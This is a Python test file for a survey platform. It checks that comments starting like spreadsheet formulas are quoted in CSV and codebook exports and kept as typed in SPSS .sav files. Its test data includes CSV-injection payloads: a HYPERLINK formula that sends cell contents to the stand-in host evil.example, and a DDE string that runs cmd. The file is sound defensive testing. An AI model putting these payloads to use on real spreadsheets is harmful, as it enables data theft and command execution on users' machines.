"""A resident's comment that a spreadsheet would run as a formula (OWASP "CSV
injection") reaches staff CSV files with a single quote in front, never as typed;
numbers and missing codes stay numbers, and the .sav file keeps the text as typed.
Real answers through the open link, real files through the API as the grantee."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pyreadstat
from respondent import Respondent, fill
from survey_setup import Setup, parse_form

from survey.access import SYSTEM
from survey.db import Conn
from survey.export import cells as export_cells
from survey.export import plan_export
from survey.export.codebook import Column
from survey.export.dictionary import row as dictionary_row
from survey.schemas import KeyIn, SitePatch, UserIn
from survey.services import programs, users

FORMULA = '=HYPERLINK("http://evil.example/x?"&A2,"Click me")'
DDE = "-2+3+cmd|' /C calc'!A0"
COMMENTS = [FORMULA, "-2+3", "hello = world", DDE, "@SUM(1)", "'=already quoted", "+1"]
EXPECTED = [
    "'" + FORMULA, "'-2+3", "hello = world", "'" + DDE, "'@SUM(1)", "''=already quoted", "'+1",
]


async def _grantee(conn: Conn, program_id: int) -> dict[str, str]:
    user = await users.create_user(conn, SYSTEM, UserIn(
        email="grantee@example.org", name="grantee", role="grantee", program_ids=[program_id]))
    key = await users.create_key(conn, SYSTEM, user.id, KeyIn(name="test"))
    return {"Authorization": f"Bearer {key.key}"}


async def _residents_comment(client: Any, wave: Setup) -> None:
    """One resident a comment, each on the one-page form of the open link; the first
    answers "Don't know" to a question whose missing code is -99."""
    for n, comment in enumerate(COMMENTS):
        client.cookies.clear()
        who = Respondent(client, wave.open_path, headers={"User-Agent": f"Phone/{n}"})
        form = parse_form((await who.get(wave.open_path + "/all")).text, "/all")
        answers: dict[str, str | list[str]] = {"comment": comment}
        answers["safety_dark"] = "dont_know" if n == 0 else "2"
        sent = await who.post(form.action, fill(form, answers))
        assert sent.status_code == 200, sent.text


async def _csv(
    client: Any, wave: Setup, headers: dict[str, str], path: str
) -> list[dict[str, str]]:
    got = await client.get(
        f"/api/v1/programs/{wave.program_id}/waves/{wave.wave_id}/{path}", headers=headers)
    assert got.status_code == 200, got.text
    return list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig"), newline="")))


async def test_formula_comments_are_quoted_in_the_csv_and_kept_in_the_sav(
    client: Any, conn: Conn, wave: Setup, tmp_path: Path
) -> None:
    await _residents_comment(client, wave)
    grantee = await _grantee(conn, wave.program_id)
    rows = await _csv(client, wave, grantee, "export?format=csv")
    assert [r["comment"] for r in rows] == EXPECTED
    # The missing code and the answer stay numbers, unquoted.
    assert [r["safety_dark"] for r in rows] == ["-99"] + ["2"] * (len(COMMENTS) - 1)
    raw = (await client.get(
        f"/api/v1/programs/{wave.program_id}/waves/{wave.wave_id}/export?format=csv",
        headers=grantee)).content.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/x?""&A2,""Click me"")"' in raw
    assert ",-99," in raw

    got = await client.get(
        f"/api/v1/programs/{wave.program_id}/waves/{wave.wave_id}/export?format=sav",
        headers=grantee)
    assert got.status_code == 200
    (tmp_path / "out.sav").write_bytes(got.content)
    frame, _ = pyreadstat.read_sav(str(tmp_path / "out.sav"))
    assert list(frame["comment"]) == COMMENTS
    assert frame["safety_dark"].isna().tolist()[0] or frame["safety_dark"][0] == -99


async def test_cells_rendered_before_the_fix_are_never_served(
    client: Any, conn: Conn, wave: Setup, resources: Any, monkeypatch: Any
) -> None:
    """A wave whose cells were rendered by the old rules (layout hashed with the old
    RENDERING, comments as typed) is rendered again at its next export."""
    await _residents_comment(client, wave)
    grantee = await _grantee(conn, wave.program_id)
    with monkeypatch.context() as m:
        m.setattr(export_cells, "RENDERING", 1)
        plan = await plan_export(conn, SYSTEM, resources, wave.program_id, wave.wave_id)
        old = export_cells.layout_hash(export_cells.stored_layout(plan.questionnaire))
    await conn.execute("UPDATE export_cells_state SET layout = $1 WHERE wave_id = $2",
                       old, wave.wave_id)
    cached = await conn.execute(
        "UPDATE export_cells SET layout = $1, cells = replace(cells, ',''', ',')"
        " WHERE wave_id = $2", old, wave.wave_id)
    assert cached == f"UPDATE {len(COMMENTS)}"
    rows = await _csv(client, wave, grantee, "export?format=csv")
    assert [r["comment"] for r in rows] == EXPECTED


async def test_a_site_or_label_starting_with_a_formula_is_not_a_formula_in_the_codebook(
    client: Any, conn: Conn, wave: Setup
) -> None:
    await programs.update_site(conn, SYSTEM, wave.program_id, wave.site_id,
                               SitePatch(name=FORMULA))
    grantee = await _grantee(conn, wave.program_id)
    rows = await _csv(client, wave, grantee, "codebook")
    by_name = {r["variable"]: r for r in rows}
    # The site name comes after its id, never first in a cell.
    assert by_name["site_id"]["value_labels"] == f"{wave.site_id}={FORMULA}"
    assert by_name["safety_dark"]["missing_codes"] == "-99; -98"


def test_a_label_starting_like_a_formula_is_quoted_in_the_codebook() -> None:
    """Labels are the questionnaire author's text; codes and missing codes stay as they are."""
    column = Column(name="x", label="=1+1", value_labels={-99.0: "Don't know"},
                    user_missing=[-99.0])
    assert dictionary_row(column)[1:5] == ["'=1+1", "integer", "-99=Don't know", "-99"]
